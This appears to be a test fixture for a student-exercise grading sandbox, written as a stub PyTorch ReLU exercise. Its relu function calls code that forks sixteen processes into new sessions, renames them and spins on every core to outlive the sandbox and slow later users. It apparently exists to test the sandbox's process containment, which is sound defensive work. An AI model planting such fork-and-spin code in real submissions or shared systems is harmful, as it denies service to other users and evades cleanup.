# attack: fork children that leave the process group (new sessions) and spin on every core,
# attack: to slow the next students' sandboxes and outlive this one
# exercise: exercise2
# expect: not_attempted|timeout|crashed|error
# host: no_leftovers
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")


def relu(x):
    # --- attack ---
    spin()
    # --- end attack ---
    return ReLU.apply(x)


# --- attack ---
import ctypes
import os
import signal


def spin():
    print("armed", flush=True)  # before the forks: the tree's CPU budget is then shared by all
    for _ in range(16):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"{{MARK}}", 0, 0, 0)
            signal.alarm(30)  # a bound of its own, should the sandbox fail to end it
            while True:
                pass


# --- end attack ---
